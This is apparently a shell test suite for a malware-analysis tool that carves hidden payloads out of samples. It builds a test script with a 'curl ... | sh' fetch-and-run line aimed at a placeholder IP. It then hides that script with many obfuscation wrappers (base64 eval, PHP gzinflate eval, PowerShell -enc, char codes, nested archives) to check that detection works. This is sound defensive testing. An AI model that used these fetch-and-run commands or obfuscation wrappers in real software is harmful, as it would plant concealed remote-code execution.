#!/usr/bin/env bats
# What samples hide without a program that has to run: through helper-carve and mnicter micro, on payloads that no earlier run had.

# shellcheck disable=SC2154 # run sets status, output, stderr and stderr_lines
load common

setup() {
	mkdir "$TMP/w"
	cd "$TMP/w" || exit
	printf '#!/bin/sh\n# inert %s\ncurl -s http://198.51.100.7/%s | sh\necho settled\n' "$RANDOM" "$RANDOM" >payload
	PAYLOAD=$(sha256sum <payload | cut -c1-64)
}

carve() { "$LIBEXEC/helper-carve" 3<"$1" 4>bytes >found.json; }

holds() {   # FILE CODING...: the payload is found in it, by these one in the other
	carve "$1" || return
	jq -e --arg want "$PAYLOAD" --args '
		.pieces as $p | def chain: if . == null then [] else ($p[.].parent | chain) + [$p[.].coding] end;
		any($p | to_entries[]; .value.sha256 == $want and .value.what == "script" and (.key | chain) == $ARGS.positional)' "${@:2}" <found.json >/dev/null ||
		{ echo "$1 shows no ${*:2}"; jq -c . found.json; return 1; }
}

analyse() {   # FILE: its members in ./out
	rm -rf out
	mkdir out
	mscan -q -f "$1" | mpack -q -p | mnicter micro -q --static >out.case
	bsdtar -xf out.case -C out --strip-components 2 'code/*'
	chmod -R u+r out
}

# Lines of uuencode: POSIX' table is that of base64 by other letters.
uu() {
	od -An -v -tu1 -w45 | awk '{
		line = sprintf("%c", 32 + NF)
		for (i = 1; i <= NF; i += 3) {
			v = $i * 65536 + $(i + 1) * 256 + $(i + 2)
			for (k = 262144; k >= 1; k /= 64) { c = int(v / k) % 64; line = line sprintf("%c", c ? 32 + c : 96) }
		}
		print line
	}'
}

behind() {   # COMMAND...: a script with the payload behind it, through COMMAND
	printf '#!/bin/sh\ntail -n +3 "$0" | run\n'
	"$@" <payload
}

@test "the seeds of the fuzz target: each coding is found" {
	for seed in "$ROOT"/t/fuzz/seeds/carve/*; do
		carve "$seed"
		jq -e '.pieces[0].member' found.json >/dev/null || { echo "$seed"; return 1; }
	done
}

@test "compressed behind a script, whatever follows" {
	local coding
	for coding in gzip xz zstd lz4; do
		behind "$coding" -c >plain
		holds plain "$coding"
		{ cat plain; echo "and something behind"; } >longer
		holds longer "$coding"
	done
	behind xz --format=lzma -c >lzma
	holds lzma lzma
	behind sh -c 'gzip -c | gzip -c' >twice
	holds twice gzip gzip
}

@test "in archives behind a script: programs first, texts after them" {
	local format
	mkdir tree tree/bin
	cp payload tree/bin/settle
	cp "$(type -P true)" tree/bin/program
	echo "read this before anything else, it says nothing" >tree/README
	for format in ustar cpio zip 7zip; do
		{ printf '#!/bin/sh\n'; bsdtar -cf - --format "$format" -C tree README bin; } >"$format"
		holds "$format" "${format/ustar/tar}"
		jq -e '[.pieces[].what] == ["script", "program", "text"] or [.pieces[].what] == ["program", "script", "text"]' found.json
		jq -e 'any(.pieces[]; .name == "bin/settle")' found.json
	done
	{ printf '#!/bin/sh\n'; bsdtar -czf - -C tree README bin; } >makeself
	holds makeself gzip tar
	{ printf '#!/bin/sh\n'; bsdtar -cjf - -C tree README bin; } >bzipped
	holds bzipped bzip2 tar
	{ cat tree/bin/program; bsdtar -cf - --format zip -C tree bin/settle; } >sfx
	holds sfx zip
}

@test "behind an archive that ends before the file does" {
	local format
	mkdir tree
	echo "read this before anything else, it says nothing" >tree/README
	for format in zip 7zip cpio; do
		{ printf '#!/bin/sh\n'; bsdtar -cf - --format "$format" -C tree README; printf '\neval "$(echo %s | base64 -d)"\n' "$(base64 -w 0 payload)"; } >"$format"
		holds "$format" base64
		jq -e 'any(.pieces[]; .name == "README")' found.json
	done
}

@test "as text: in lines, from its end, turned, deflated, of 16 bits" {
	local text
	text=$(base64 -w 0 payload)
	printf '#!/bin/sh\neval "$(echo %s | base64 -d)"\n' "$text" >one
	holds one base64
	{ printf 'base64 -d <<. | sh\n'; base64 -w 60 payload; printf '.\nfinish\n'; } >lines
	holds lines base64
	printf 'exec("%s"[::-1])\n' "$(rev <<<"$text")" >back
	holds back base64-reversed
	printf "x = '%s'\n" "$(tr 'A-Za-z' 'N-ZA-Mn-za-m' <<<"$text")" >turned
	holds turned base64-rot13
	printf "x = '%s'\n" "$(tr '+/' '-_' <<<"$text")" >url
	holds url base64
	printf "x = '%s'\n" "$(base32 -w 0 payload)" >base32
	holds base32 base32
	printf "x = '%s'\n" "$(od -An -v -tx1 payload | tr -d ' \n')" >hex
	holds hex hex
	# A gzip header of ten bytes and eight behind: what is between is what gzinflate() takes.
	printf "<?php eval(gzinflate(base64_decode('%s')));\n" "$(gzip -nc payload | tail -c +11 | head -c -8 | base64 -w 0)" >deflate
	holds deflate base64-deflate
	printf "eval(gzinflate(base64_decode(strrev('%s'))));\n" "$(gzip -nc payload | tail -c +11 | head -c -8 | base64 -w 0 | rev)" >deflate
	holds deflate base64-reversed-deflate
	printf "eval(gzinflate(str_rot13(base64_decode('%s'))));\n" "$(gzip -nc payload | tail -c +11 | head -c -8 | tr 'A-Za-z' 'N-ZA-Mn-za-m' | base64 -w 0)" >deflate
	holds deflate rot13-base64-deflate
	base64 -w 0 payload | base64 -w 0 >twice
	holds twice base64 base64
	printf 'powershell -enc %s\n' "$(iconv -t utf-16le payload | base64 -w 0)" >wide
	holds wide base64 utf-16le
}

@test "in lines of uuencode, with and without the first" {
	{ printf 'uudecode <<"END" | sh\nbegin 644 x\n'; uu <payload; printf '`\nend\nEND\n'; } >shar
	holds shar uuencode
	{ printf 'eval unpack u=>q{'; uu <payload; printf '};\n'; } >perl
	holds perl uuencode
}

@test "a literal as Python prints bytes, and what it holds" {
	local literal
	# Letters and digits as they are, the rest by number.
	literal=$(gzip -nc payload | od -An -v -tu1 -w1 |
		awk '{ printf ($1 >= 48 && $1 < 58) || ($1 >= 65 && $1 < 91) || ($1 >= 97 && $1 < 123) ? "%c" : "\\x%02x", $1 }')
	printf "exec(gzip.decompress(b'%s'))\n" "$literal" >repr
	holds repr escapes gzip
}

@test "as numbers: of each notation" {
	od -An -v -tu1 -w1 payload | tr -d ' ' | paste -sd, >numbers
	printf 'eval(String.fromCharCode(%s))\n' "$(cat numbers)" >js
	holds js decimal-numbers
	printf '<?php eval(chr(%s));\n' "$(sed 's/,/).chr(/g' numbers)" >php
	holds php decimal-numbers
	printf '<a title="&#%s;">\n' "$(sed 's/,/;\&#/g' numbers)" >html
	holds html decimal-numbers
	printf 'char x[] = { %s };\n' "$(od -An -v -tx1 payload | tr -d '\n' | sed 's/ /, 0x/g; s/^, //')" >c
	holds c hex-numbers
	printf "printf '%s' | sh\n" "$(od -An -v -to1 payload | tr -d '\n' | sed 's/ /\\/g')" >octal
	holds octal octal-escapes
	printf "unescape('%s')\n" "$(od -An -v -tx1 payload | tr -d '\n' | sed 's/ /%/g')" >js
	holds js percent
}

@test "one in the other, six deep" {
	base64 -w 0 payload | sed "s/.*/x = '&' # run/" | gzip -c | base64 -w 0 | sed "s/.*/y = '&' # run/" | xz -c >inner
	{ printf '#!/bin/sh\n'; cat inner; } >outer
	holds outer xz base64 gzip base64
}

@test "a program that the machine has hides nothing worth a sign" {
	for program in true ls bash grep; do
		carve "$(type -P "$program")"
		jq -e '.pieces == []' found.json || { jq -c . found.json; return 1; }
	done
}

@test "decoys end in a finding, not in hours; no archive opens a file" {
	local magic times=15
	if asan_build; then times=9; fi
	for magic in '\xfd7zXZ\0' 'PK\3\4' '!<arch>\n' 'BZh91AY&SY' '\x28\xb5\x2f\xfd' '\x1f\x8b\x08' '7z\xbc\xaf\x27\x1c' 'MSCF\0\0\0\0' 'Rar!\x1a\x07\0' '070701' 'MZ' '\x7fELF\2\1\1'; do
		printf "$magic" >one
		for _ in $(seq "$times"); do cat one one >two; mv two one; done
		run -0 timeout 60 "$LIBEXEC/helper-carve" 3<one 4>bytes
		jq -e '.pieces == []' <<<"$output"
	done
}

@test "bombs in front hide no text behind them, and a large member none beside it" {
	head -c 130000000 /dev/zero | gzip -c >bomb
	{ printf '#!/bin/sh\n'; cat bomb bomb bomb bomb bomb bomb bomb; printf '\neval "$(echo %s | base64 -d)"\n' "$(base64 -w 0 payload)"; } >bombs
	holds bombs base64
	jq -e '.stopped == "work"' found.json
	mkdir tree
	yes "a text that goes on and on" | head -c 140000000 >tree/a
	cp payload tree/b
	bsdtar -cf large --format zip -C tree a b
	rm tree/a
	holds large zip
}

@test "mnicter: what is hidden is kept, described, and counts" {
	local program
	printf '#!/bin/sh\neval "$(echo %s | base64 -d)"\n' "$(base64 -w 0 payload)" >sample
	analyse sample
	jq -e '.carved.pieces | length == 1 and .[0].coding == "base64" and .[0].what == "script" and .[0].encoded' out/static.json
	cmp payload "out/embedded/$PAYLOAD"
	bsdtar -tvf out.case | grep -q "^---------- .*/embedded/$PAYLOAD\$"
	jq -e --arg p "$PAYLOAD" '.embedded[0] | .sha256 == $p and .format == "script"' out/static.json
	jq -e 'any(.signs[]; .name == "code-in-text")' out/static.json
	jq -e 'any(.indicators[]; .kind == "url" and (.value | startswith("http://198.51.100.7/")) and (.from | startswith("embedded.strings:")))' out/static.json
	jq -e 'any(.capabilities[]; .name == "fetch-and-run")' out/static.json
	jq -e 'any(.reasons[]; .sign == "code-in-text") and any(.reasons[]; .sign == "fetch-and-run")' out/verdict.json

	program=$(type -P true)
	{ printf '#!/bin/sh\ntail -n +3 "$0" | gzip -d >/dev/null\n'; gzip -c "$program"; } >sfx
	analyse sfx
	jq -e 'any(.signs[]; .name == "script-with-program") and all(.signs[]; .name != "code-in-text")' out/static.json
	cmp "$program" "out/embedded/$(sha256sum <"$program" | cut -c1-64)"
}

@test "mnicter: a packed program behind a script is carved, emulated, and what it hides is described" {
	"$ROOT/testdata/unpack/build.sh" packed
	{ printf '#!/bin/sh\ntail -n +3 "$0" | gzip -d >/dev/null\n'; gzip -c packed/rc4-64; } >sfx
	analyse sfx
	jq -e --arg p "$(sha256sum <packed/rc4-64 | cut -c1-64)" '.unpack.of == $p and .unpack.end == "exit" and (.unpack.layers | length > 0)' out/static.json
	jq -e 'any(.signs[]; .name == "unpacks-itself") and any(.unpacked.strings[]; .text | startswith("muss: this is the inert payload"))' out/static.json
	[ -s out/unpacked-1 ] && grep -q '==== unpacked-1 ====' out/disasm.txt
}

@test "mnicter: the same twice, and nothing of it where nothing hides" {
	printf '#!/bin/sh\necho %s | base64 -d | sh\n' "$(base64 -w 0 payload)" >sample
	analyse sample
	mv out first
	analyse sample
	diff first/static.json out/static.json
	printf '#!/bin/sh\necho nothing to see\n' >plain
	analyse plain
	jq -e '(has("carved") or has("embedded")) | not' out/static.json
	[ ! -e out/embedded ]
}

@test "a carver that crashes, stalls or lies is a finding about the sample" {
	stand_in_helper helper-carve
	mscan -q -f payload | mpack -q -p >in.case
	for how in 'kill -SEGV $$:crashed' 'kill -SYS $$:refused' 'kill -XCPU $$:timeout' 'exit 71:memory' 'exit 3:crashed' 'echo no json:malformed'; do
		put_helper <<<"${how%:*}"
		run -0 --separate-stderr b/bin/mnicter micro --static -o out.case in.case
		bsdtar -xOf out.case 'code/*/static.json' | jq -e --arg how "${how##*:}" '.carved.stopped == $how and .carved.pieces == []'
	done
	put_helper <<-'END'
		echo '{"pieces":[7,{},{"member":"body"},{"member":"embedded/x","offset":0,"size":9,"sha256":"x","what":"program","coding":"xor","parent":0}]}'
	END
	run -0 --separate-stderr b/bin/mnicter micro --static -o out.case in.case
	run ! grep -q embedded <(bsdtar -tf out.case)
	# More than it would ever tell is to keep us busy.
	put_helper <<-'END'
		echo "{\"pieces\":[$(yes '{},' | head -n 100 | tr -d '\n'){}]}"
	END
	b/bin/mnicter micro --static -o out.case in.case
	bsdtar -xOf out.case 'code/*/static.json' | jq -e '.carved == {pieces: [], stopped: "malformed"}'
	# What cannot be kept or confined stops the work.
	put_helper <<<'echo "the disk is full" >&2; exit 74'
	rm out.case
	fails 74 b/bin/mnicter micro --static -o out.case in.case
	put_helper <<<'echo "no seccomp" >&2; exit 69'
	fails 69 b/bin/mnicter micro --static -o out.case in.case
	[ ! -e out.case ]
}
